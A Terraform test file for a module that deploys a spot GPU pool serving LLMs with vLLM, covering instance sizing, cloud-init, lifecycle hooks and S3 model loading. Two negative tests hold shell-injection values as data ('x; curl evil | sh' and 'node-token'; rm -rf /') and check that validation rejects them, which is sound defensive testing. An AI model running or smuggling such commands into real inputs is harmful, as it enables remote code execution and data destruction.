# Offline tests of the GPU pool's pure logic: run with `terraform test` in
# this module (no provider, nothing created).

variables {
  name                 = "llm"
  region               = "us-east-1"
  router_url           = "http://internal-llm-heartbeat-123.us-east-1.elb.amazonaws.com:8081"
  node_token_parameter = "/spotrelay/llm/node-token"
  model = {
    name = "Qwen/Qwen2.5-7B-Instruct"
  }
  model_params_billion = 7.6
  spotrelay = {
    pip_spec = "s3://llm-artifacts/spotrelay/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/spotrelay-0.1.0-py3-none-any.whl"
    sha256   = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
  }
}

run "defaults" {
  command = apply

  assert {
    condition     = length(var.instance_types) >= 6 && length(distinct([for t in var.instance_types : split(".", t)[0]])) >= 3
    error_message = "The default instance types must span at least 3 GPU families."
  }

  assert {
    condition     = toset([for t in var.instance_types : split(".", t)[0]]) == toset(["g6", "g5", "g6e"])
    error_message = "The default families are g6, g5 and g6e: g4dn's 16 GiB T4 cannot hold the default 7B model."
  }

  assert {
    condition     = output.model_memory.need_gib > 16.9 && output.model_memory.need_gib < 17.1 && output.model_memory.usable_gib["g6.xlarge"] == 21.6
    error_message = "7.6 B params x 2 bytes = 14.2 GiB, +20 % KV cache = 17.0 GiB; a 24 GiB L4 offers 21.6 GiB at 0.9."
  }

  assert {
    condition     = output.launch_hook.name == "llm-launch" && output.launch_hook.default_result == "ABANDON" && output.launch_hook.transition == "autoscaling:EC2_INSTANCE_LAUNCHING" && output.launch_hook.heartbeat_timeout == 1200
    error_message = "The launch hook is <name>-launch, ABANDON by default, sized for a cold start."
  }

  assert {
    condition     = output.instance_requirements == null && output.model_s3 == null
    error_message = "Explicit types and the hub are the defaults."
  }

  assert {
    condition     = output.instance_overrides[0].instance_type == "g6.xlarge"
    error_message = "Overrides keep the preference order."
  }

  assert {
    condition     = output.scaling.max_size == 2 && output.scaling.desired_capacity == 1
    error_message = "max_size defaults to desired_capacity + 1 (headroom for capacity rebalancing)."
  }

  assert {
    condition     = output.scaling.spot_allocation_strategy == "price-capacity-optimized"
    error_message = "Spot allocation must be price-capacity-optimized."
  }

  assert {
    condition     = output.lifecycle_hook.name == "llm-drain" && output.lifecycle_hook.heartbeat_timeout == 120
    error_message = "The lifecycle hook is named <name>-drain with a 120 s heartbeat."
  }

  assert {
    condition     = output.served_model_name == "Qwen/Qwen2.5-7B-Instruct"
    error_message = "The served model name defaults to the model name."
  }

  assert {
    condition     = output.tags["spotrelay:pool"] == "llm" && output.tags["ManagedBy"] == "terraform"
    error_message = "Every resource is tagged with its pool."
  }

  assert {
    condition     = alltrue([for t in output.asg_tags : t.propagate_at_launch])
    error_message = "ASG tags propagate to instances."
  }
}

run "agent_config_uses_agent_keys" {
  command = apply

  assert {
    condition     = jsonencode(yamldecode(output.agent_yaml)) == jsonencode(output.agent_settings)
    error_message = "agent.yaml is the YAML form of agent_settings."
  }

  assert {
    condition     = toset(keys(output.agent_settings)) == toset(["router", "engine", "imds", "heartbeat", "drain", "lifecycle", "metrics", "state_dir", "webhook", "cloudwatch"])
    error_message = "agent.yaml must use AgentConfig's sections only."
  }

  assert {
    condition     = jsonencode(output.agent_settings.router.urls) == jsonencode(["http://internal-llm-heartbeat-123.us-east-1.elb.amazonaws.com:8081"])
    error_message = "The agent registers with the one internal heartbeat endpoint."
  }

  assert {
    condition     = output.agent_settings.router.node_token_file == "/etc/spotrelay/node-token"
    error_message = "The agent reads the node token from the file the bootstrap writes."
  }

  assert {
    condition     = output.agent_settings.engine.url == "http://127.0.0.1:8000" && output.agent_settings.engine.systemd_unit == "vllm.service"
    error_message = "The agent watches the local vLLM on port 8000 and its unit."
  }

  assert {
    condition     = output.agent_settings.lifecycle.asg_name == "llm" && output.agent_settings.lifecycle.hook_name == "llm-drain" && output.agent_settings.lifecycle.region == "us-east-1"
    error_message = "The agent completes the lifecycle hook of this group."
  }

  assert {
    condition     = output.agent_settings.metrics.port == 9101 && output.agent_settings.heartbeat.interval_s == 2
    error_message = "Metrics on 9101, heartbeats every 2 s by default."
  }
}

run "agent_publishes_load_when_asked" {
  command = apply

  variables {
    cloudwatch = {
      enabled    = true
      namespace  = "spotrelay"
      pool       = "llm"
      interval_s = 60
    }
  }

  assert {
    condition     = output.agent_settings.cloudwatch.enabled && output.agent_settings.cloudwatch.pool == "llm"
    error_message = "agent.yaml turns on the load publisher for scaling on load."
  }
}

run "vllm_command_and_unit" {
  command = apply

  variables {
    model = {
      name          = "meta-llama/Llama-3.1-8B-Instruct"
      served_name   = "llama-8b"
      max_model_len = 8192
      extra_args    = ["--enable-prefix-caching"]
    }
    vllm = {
      version            = "0.33.0"
      shutdown_timeout_s = 60
    }
  }

  assert {
    condition     = slice(output.vllm_argv, 0, 3) == ["/opt/vllm/venv/bin/vllm", "serve", "meta-llama/Llama-3.1-8B-Instruct"]
    error_message = "The unit runs `vllm serve <model>` from the pinned virtualenv."
  }

  assert {
    condition     = strcontains(join(" ", output.vllm_argv), "--port 8000") && strcontains(join(" ", output.vllm_argv), "--shutdown-timeout 60")
    error_message = "vLLM listens on 8000 and has a shutdown grace."
  }

  assert {
    condition     = strcontains(join(" ", output.vllm_argv), "--served-model-name llama-8b") && strcontains(join(" ", output.vllm_argv), "--max-model-len 8192")
    error_message = "served name and max_model_len reach the command line."
  }

  assert {
    condition     = output.vllm_argv[length(output.vllm_argv) - 1] == "--enable-prefix-caching"
    error_message = "extra_args come last, verbatim."
  }

  assert {
    condition     = strcontains(output.vllm_unit, "TimeoutStopSec=80") && strcontains(output.vllm_unit, "RequiresMountsFor=/opt/models")
    error_message = "systemd waits longer than vLLM's shutdown grace, and for the model volume."
  }

  assert {
    condition     = output.agent_settings.engine.model == "llama-8b"
    error_message = "The agent waits for the served model name."
  }

  assert {
    condition     = strcontains(output.install_script, "'vllm==0.33.0'") && strcontains(output.install_script, "venv_install /opt/spotrelay/venv 's3://llm-artifacts/spotrelay/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/spotrelay-0.1.0-py3-none-any.whl' '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08'")
    error_message = "vLLM and spotrelay are installed at pinned versions."
  }
}

run "user_data_is_cloud_config" {
  command = apply

  variables {
    model = {
      name               = "Qwen/Qwen2.5-7B-Instruct"
      hf_token_parameter = "/spotrelay/hf-token"
    }
    spotrelay = {
      pip_spec = "https://example.com/spotrelay-0.1.0-py3-none-any.whl"
      sha256   = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    }
  }

  assert {
    condition     = startswith(output.user_data, "#cloud-config\n")
    error_message = "user data must start with #cloud-config."
  }

  assert {
    condition     = yamldecode(output.user_data).write_files[0].path == "/etc/spotrelay/agent.yaml"
    error_message = "cloud-init writes the agent configuration."
  }

  assert {
    condition     = jsonencode(yamldecode(yamldecode(output.user_data).write_files[0].content)) == jsonencode(output.agent_settings)
    error_message = "The agent.yaml in user data round-trips to agent_settings."
  }

  assert {
    condition     = yamldecode(output.user_data).write_files[1].content == output.vllm_unit
    error_message = "cloud-init writes the vllm unit verbatim."
  }

  assert {
    condition     = strcontains(output.install_script, "systemctl enable --now vllm.service spotrelay-agent.service")
    error_message = "Both units are enabled and started."
  }

  assert {
    condition     = strcontains(output.install_script, "/etc/polkit-1/rules.d/50-spotrelay-agent.rules")
    error_message = "The agent's polkit rule (stop vllm.service) is installed from the package."
  }

  assert {
    condition     = strcontains(output.install_script, "/spotrelay/hf-token") && strcontains(output.install_script, "HF_TOKEN")
    error_message = "The Hugging Face token is fetched when configured."
  }

  assert {
    condition     = strcontains(output.install_script, "'spotrelay @ https://example.com/spotrelay-0.1.0-py3-none-any.whl'")
    error_message = "A wheel URL works as the pip spec (fetched and hash-checked, then installed with the node's extras)."
  }

  assert {
    condition     = output.user_data_base64 == base64gzip(output.user_data)
    error_message = "The launch template gets the user data gzip-compressed (cloud-init decompresses it), base64-encoded."
  }
}

run "no_model_volume" {
  command = apply

  variables {
    volumes = {
      model_size_gib = 0
    }
  }

  assert {
    condition     = !output.volumes.has_model_volume && strcontains(output.vllm_unit, "HF_HOME=/opt/models/huggingface")
    error_message = "Without a model volume the cache goes to the instance-store NVMe (mounted at model_mount)."
  }
}

run "no_model_volume_no_instance_store" {
  command = apply

  variables {
    volumes = {
      model_size_gib = 0
    }
    instance_store = false
  }

  assert {
    condition     = !strcontains(output.vllm_unit, "RequiresMountsFor")
    error_message = "Without a model volume or instance store the unit does not wait for a mount."
  }

  assert {
    condition     = strcontains(output.vllm_unit, "HF_HOME=/var/lib/vllm/huggingface")
    error_message = "Without a model volume or instance store the cache lives on the root volume."
  }

  assert {
    condition     = !strcontains(output.user_data, "spotrelay-nvme") && !strcontains(output.user_data, "mdadm") && output.nvme_script == ""
    error_message = "Without instance_store the user data has no NVMe step."
  }
}

run "explicit_sizes_and_on_demand_base" {
  command = apply

  variables {
    scaling = {
      min_size                                 = 1
      desired_capacity                         = 3
      max_size                                 = 6
      on_demand_base_capacity                  = 1
      on_demand_percentage_above_base_capacity = 25
    }
  }

  assert {
    condition     = output.scaling.max_size == 6 && output.scaling.on_demand_base_capacity == 1 && output.scaling.on_demand_percentage_above_base_capacity == 25
    error_message = "Explicit sizes pass through."
  }
}

# --- negative cases: each must be rejected ---------------------------------

run "rejects_non_gpu_instance_type" {
  command = plan
  variables {
    instance_types = ["g6.xlarge", "m7i.large"]
  }
  expect_failures = [var.instance_types]
}

run "rejects_duplicate_instance_types" {
  command = plan
  variables {
    instance_types = ["g6.xlarge", "g6.xlarge"]
  }
  expect_failures = [var.instance_types]
}

run "rejects_empty_instance_types" {
  command = plan
  variables {
    instance_types = []
  }
  expect_failures = [var.instance_types]
}

run "rejects_long_hook_heartbeat" {
  command = plan
  variables {
    lifecycle_hook = {
      heartbeat_timeout = 300
    }
  }
  expect_failures = [var.lifecycle_hook]
}

run "rejects_on_demand_percentage_over_100" {
  command = plan
  variables {
    scaling = {
      on_demand_percentage_above_base_capacity = 120
    }
  }
  expect_failures = [var.scaling]
}

run "rejects_no_headroom" {
  command = plan
  variables {
    scaling = {
      desired_capacity = 2
      max_size         = 2
    }
  }
  expect_failures = [output.scaling]
}

run "rejects_desired_below_min" {
  command = plan
  variables {
    scaling = {
      min_size         = 3
      desired_capacity = 1
    }
  }
  expect_failures = [output.scaling]
}

run "rejects_shell_characters_in_model" {
  command = plan
  variables {
    model = {
      name = "x; curl evil | sh"
    }
  }
  expect_failures = [var.model]
}

run "rejects_managed_vllm_flags" {
  command = plan
  variables {
    model = {
      name       = "Qwen/Qwen2.5-7B-Instruct"
      extra_args = ["--port=9000"]
    }
  }
  expect_failures = [var.model]
}

run "rejects_shutdown_timeout_beyond_notice" {
  command = plan
  variables {
    vllm = {
      shutdown_timeout_s = 150
    }
  }
  expect_failures = [var.vllm]
}

run "rejects_grace_plus_margin_beyond_notice" {
  command = plan
  variables {
    vllm = {
      shutdown_timeout_s = 110
    }
    spotrelay = {
      pip_spec        = "s3://llm-artifacts/spotrelay/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/spotrelay-0.1.0-py3-none-any.whl"
      sha256          = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
      safety_margin_s = 20
    }
  }
  expect_failures = [output.lifecycle_hook]
}

run "rejects_unpinned_vllm" {
  command = plan
  variables {
    vllm = {
      version = "latest"
    }
  }
  expect_failures = [var.vllm]
}

run "rejects_router_url_without_scheme" {
  command = plan
  variables {
    router_url = "10.0.1.10:8080"
  }
  expect_failures = [var.router_url]
}

run "rejects_bad_token_parameter" {
  command = plan
  variables {
    node_token_parameter = "node-token'; rm -rf /"
  }
  expect_failures = [var.node_token_parameter]
}

run "rejects_equal_volume_sizes" {
  command = plan
  variables {
    volumes = {
      root_size_gib  = 200
      model_size_gib = 200
    }
  }
  expect_failures = [output.volumes]
}

run "rejects_reserved_tag_prefix" {
  command = plan
  variables {
    tags = {
      "aws:team" = "ml"
    }
  }
  expect_failures = [var.tags]
}

run "rejects_bad_name" {
  command = plan
  variables {
    name = "LLM_Pool"
  }
  expect_failures = [var.name]
}

# --- readiness gate, self-healing --------------------------------------------

run "agent_gets_launch_hook_and_self_heal" {
  command = apply

  variables {
    launch_hook = {
      heartbeat_timeout = 900
      agent_timeout_s   = 1800
    }
    engine_unhealthy_after_s = 240
  }

  assert {
    condition     = output.agent_settings.lifecycle.launch_hook_name == "llm-launch" && output.agent_settings.lifecycle.launch_timeout_s == 1800 && output.agent_settings.lifecycle.hook_name == "llm-drain"
    error_message = "The agent completes the launch hook and the termination hook."
  }

  assert {
    condition     = output.agent_settings.engine.unhealthy_after_s == 240
    error_message = "The self-heal window reaches the agent."
  }

  assert {
    condition     = output.launch_hook.heartbeat_timeout == 900
    error_message = "The launch hook's heartbeat timeout is configurable."
  }

  assert {
    condition     = strcontains(output.install_script, "systemctl enable --now spotrelay-agent.service") && strcontains(output.install_script, "venv_install /opt/vllm/venv")
    error_message = "The agent starts before vLLM is installed, so it heartbeats the launch hook during the install."
  }
}

run "rejects_launch_timeout_beyond_global_timeout" {
  command = plan
  variables {
    launch_hook = {
      heartbeat_timeout = 60
      agent_timeout_s   = 7200
    }
  }
  expect_failures = [var.launch_hook]
}

run "rejects_launch_hook_default_result" {
  command = plan
  variables {
    launch_hook = {
      default_result = "RETRY"
    }
  }
  expect_failures = [var.launch_hook]
}

# --- model-fit instance selection ------------------------------------------------

run "rejects_type_too_small_for_model" {
  command = plan
  variables {
    instance_types = ["g6.xlarge", "g4dn.xlarge", "g5.xlarge"]
  }
  expect_failures = [output.instance_overrides]
}

run "explicit_memory_need_wins" {
  command = plan
  variables {
    instance_types       = ["g6e.xlarge", "g6e.2xlarge", "g5.xlarge"]
    model_gpu_memory_gib = 40
  }
  expect_failures = [output.instance_overrides]
}

run "tensor_parallel_spreads_the_model" {
  command = apply

  variables {
    model = {
      name                 = "Qwen/Qwen2.5-32B-Instruct"
      tensor_parallel_size = 4
    }
    model_params_billion = 32.8
    instance_types       = ["g6e.12xlarge", "g6e.24xlarge", "g5.48xlarge"]
  }

  assert {
    condition     = output.model_memory.usable_gib["g6e.12xlarge"] == 172.8 && output.model_memory.usable_gib["g5.48xlarge"] == 86.4
    error_message = "Usable memory is tensor_parallel_size GPUs at gpu_memory_utilization."
  }

  assert {
    condition     = strcontains(join(" ", output.vllm_argv), "--tensor-parallel-size 4")
    error_message = "tensor_parallel_size reaches vLLM."
  }
}

run "rejects_tensor_parallel_beyond_gpu_count" {
  command = plan
  variables {
    model = {
      name                 = "Qwen/Qwen2.5-7B-Instruct"
      tensor_parallel_size = 4
    }
    instance_types = ["g6.12xlarge", "g6.xlarge", "g5.12xlarge"]
  }
  expect_failures = [output.instance_overrides]
}

run "rejects_unknown_type_when_fit_is_checked" {
  command = plan
  variables {
    instance_types = ["g6.xlarge", "g7e.2xlarge", "g5.xlarge"]
  }
  expect_failures = [output.instance_overrides]
}

run "extra_gpu_specs_cover_new_types" {
  command = apply
  variables {
    instance_types  = ["g6.xlarge", "g7e.2xlarge", "g5.xlarge"]
    extra_gpu_specs = { "g7e.2xlarge" = { gpus = 1, gpu_memory_gib = 96 } }
  }
  assert {
    condition     = output.model_memory.usable_gib["g7e.2xlarge"] == 86.4
    error_message = "extra_gpu_specs extend the table."
  }
}

run "attribute_based_selection" {
  command = apply

  variables {
    model = {
      name                 = "Qwen/Qwen2.5-7B-Instruct"
      tensor_parallel_size = 1
    }
    instance_requirements = {
      vcpu_max               = 32
      allowed_instance_types = ["g5*", "g6*", "g6e*"]
    }
  }

  assert {
    condition     = length(output.instance_overrides) == 0
    error_message = "instance_requirements replaces the explicit type list."
  }

  assert {
    condition     = output.instance_requirements.accelerator_manufacturers == ["nvidia"] && output.instance_requirements.accelerator_types == ["gpu"]
    error_message = "Only NVIDIA GPU instances."
  }

  assert {
    condition     = output.instance_requirements.instance_generations == ["current"] && output.instance_requirements.local_storage == "required"
    error_message = "Only current-generation instance types, with local NVMe for the instance store."
  }

  assert {
    condition     = output.instance_requirements.accelerator_count.min == 1 && output.instance_requirements.accelerator_count.max == 1
    error_message = "Exactly tensor_parallel_size GPUs: no idle GPUs to pay for."
  }

  assert {
    condition     = output.instance_requirements.accelerator_total_memory_mib.min == 19328
    error_message = "16.99 GiB / 0.9 utilisation = 18.88 GiB = 19328 MiB of GPU memory at least."
  }

  assert {
    condition     = output.instance_requirements.vcpu_count.min == 4 && output.instance_requirements.vcpu_count.max == 32 && output.instance_requirements.memory_mib.min == 16384
    error_message = "vCPU and memory bounds pass through (GiB to MiB)."
  }
}

run "rejects_requirements_without_model_size" {
  command = plan
  variables {
    model_params_billion  = null
    instance_requirements = {}
  }
  expect_failures = [output.instance_requirements, check.model_fit_known]
}

run "rejects_allowed_and_excluded_types_together" {
  command = plan
  variables {
    instance_requirements = {
      allowed_instance_types  = ["g6*"]
      excluded_instance_types = ["g4dn*"]
    }
  }
  expect_failures = [var.instance_requirements]
}

# --- cold start: S3 weights and instance-store NVMe -----------------------------

run "instance_store_is_formatted_in_cloud_init" {
  command = apply

  assert {
    condition     = yamldecode(output.user_data).runcmd == [["sh", "-c", "/usr/local/sbin/spotrelay-nvme && exec /usr/local/sbin/spotrelay-install"]]
    error_message = "cloud-init mounts the NVMe before the install, and the install runs only if that worked (no quiet fallback)."
  }

  assert {
    condition     = !output.volumes.has_model_volume && output.volumes.model_size_gib == 0 && strcontains(output.install_script, "MODEL_SIZE_GIB=0")
    error_message = "With the instance store holding the model, no EBS model volume is paid for."
  }

  assert {
    condition     = strcontains(output.nvme_script, "/opt/dlami/nvme") && strcontains(output.nvme_script, "not formatting them")
    error_message = "The Deep Learning AMI's own instance-store mount is used, and devices in use are never formatted."
  }

  assert {
    condition     = contains(yamldecode(output.user_data).packages, "mdadm") && strcontains(output.nvme_script, "Amazon EC2 NVMe Instance Storage") && strcontains(output.nvme_script, "mkfs.xfs") && strcontains(output.nvme_script, "MOUNT='/opt/models'")
    error_message = "Instance-store devices are found by model, striped, formatted and mounted at model_mount."
  }

  assert {
    condition     = one([for f in yamldecode(output.user_data).write_files : f.content if f.path == "/usr/local/sbin/spotrelay-nvme"]) == output.nvme_script
    error_message = "cloud-init writes the NVMe script verbatim."
  }

  assert {
    condition     = strcontains(output.install_script, "! mountpoint -q \"$MODEL_MOUNT\"")
    error_message = "The EBS model volume is not mounted over the NVMe."
  }
}

run "weights_copied_from_s3" {
  command = apply

  variables {
    model_s3_uri = "s3://acme-models/qwen2.5-7b-instruct/"
  }

  assert {
    condition     = output.vllm_argv[2] == "/opt/models/weights" && strcontains(join(" ", output.vllm_argv), "--served-model-name Qwen/Qwen2.5-7B-Instruct")
    error_message = "vLLM serves the local copy under the model's own name."
  }

  assert {
    condition     = strcontains(output.install_script, "fetch-model.py") && strcontains(output.install_script, "'s3://acme-models/qwen2.5-7b-instruct/' '/opt/models/weights' 'us-east-1'")
    error_message = "The install copies the weights from S3 before vLLM starts."
  }

  assert {
    condition     = length([for f in yamldecode(output.user_data).write_files : f if f.path == "/usr/local/lib/spotrelay/fetch-model.py"]) == 1
    error_message = "cloud-init writes the parallel S3 copier."
  }

  assert {
    condition     = output.model_s3.bucket == "acme-models" && output.model_s3.prefix == "qwen2.5-7b-instruct" && output.model_s3.load == "copy"
    error_message = "The S3 source is parsed for the IAM policy."
  }

  assert {
    condition     = strcontains(output.user_data, "spotrelay-nvme")
    error_message = "The copy lands on the instance-store NVMe when there is one."
  }
}

run "weights_streamed_from_s3" {
  command = apply

  variables {
    model_s3_uri  = "s3://acme-models/qwen"
    model_s3_load = "stream"
  }

  assert {
    condition     = output.vllm_argv[2] == "s3://acme-models/qwen" && strcontains(join(" ", output.vllm_argv), "--load-format runai_streamer")
    error_message = "vLLM streams the weights from S3 with the Run:ai streamer."
  }

  assert {
    condition     = strcontains(output.install_script, "'vllm[runai]==0.33.0'") && !strcontains(output.install_script, "fetch-model.py")
    error_message = "Streaming installs vllm[runai] and copies nothing."
  }
}

run "hub_download_without_s3" {
  command = apply

  variables {
    instance_store = false
  }

  assert {
    condition     = output.vllm_argv[2] == "Qwen/Qwen2.5-7B-Instruct" && !strcontains(output.user_data, "fetch-model") && !strcontains(output.user_data, "spotrelay-nvme")
    error_message = "Without model_s3_uri or instance store the user data has neither step."
  }

  assert {
    condition     = output.volumes.has_model_volume && output.volumes.model_size_gib == 200 && yamldecode(output.user_data).runcmd == [["/usr/local/sbin/spotrelay-install"]]
    error_message = "Without instance store the model gets a 200 GiB EBS volume by default."
  }
}

run "rejects_bad_s3_uri" {
  command = plan
  variables {
    model_s3_uri = "https://acme-models.s3.amazonaws.com/qwen"
  }
  expect_failures = [var.model_s3_uri]
}

run "package_from_s3_is_hash_checked_then_installed_with_the_node_extras" {
  command = apply

  assert {
    condition     = output.package_s3_object == "llm-artifacts/spotrelay/9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08/spotrelay-0.1.0-py3-none-any.whl"
    error_message = "The instance role may read exactly that one object."
  }

  assert {
    condition     = strcontains(output.install_script, "spotrelay-fetch-package \"$1/bin/python\" \"$2\" \"$3\"") && strcontains(output.install_script, "\"$wheel[agent,gpu]\"")
    error_message = "The wheel is fetched and hash-checked by spotrelay-fetch-package, then installed from the file with spotrelay[agent,gpu] only."
  }

  assert {
    condition     = anytrue([for f in yamldecode(output.user_data).write_files : f.path == "/usr/local/sbin/spotrelay-fetch-package" && strcontains(f.content, "sha256sum")])
    error_message = "cloud-init writes the fetcher that checks the sha256."
  }

  assert {
    condition     = strcontains(output.install_script, "python -m spotrelay.core.fetch_secret") && !strcontains(output.user_data, "fetch-secret.py")
    error_message = "Secrets come through the packaged fetcher (botocore, in the agent extra); no boto3 script is written."
  }
}

run "package_as_a_bare_version_pinned_by_hash" {
  command = apply

  variables {
    spotrelay = {
      pip_spec = "0.2.0"
      sha256   = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"
    }
  }

  assert {
    condition     = output.package_requirement == "spotrelay==0.2.0" && output.package_s3_object == null
    error_message = "A bare version is an index pin (hash-checked by pip download), with no S3 access."
  }
}

run "rejects_package_without_hash" {
  command = plan

  variables {
    spotrelay = { pip_spec = "spotrelay==0.2.0" }
  }

  expect_failures = [var.spotrelay]
}

run "rejects_missing_package" {
  command = plan

  variables {
    spotrelay = {}
  }

  expect_failures = [var.spotrelay]
}
